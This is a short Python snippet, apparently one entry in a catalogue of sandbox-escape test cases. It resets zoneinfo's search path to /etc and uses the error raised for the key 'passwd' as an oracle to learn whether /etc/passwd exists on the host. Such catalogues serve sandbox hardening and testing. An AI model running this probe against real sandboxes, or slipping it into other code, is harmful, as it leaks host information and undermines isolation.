# escape: 041
# technique: zoneinfo.ZoneInfo with a changed TZPATH, from_file with a guest object (key as a path oracle)
# family: dfile
# goal: host-info
# first-seen: bpo-41530 / zoneinfo key traversal checks
import zoneinfo
zoneinfo.reset_tzpath(['/etc'])
try: zoneinfo.ZoneInfo('passwd')
except ValueError as e: print('ESCAPED:/etc/passwd exists, "%s"' % e)
except Exception: pass
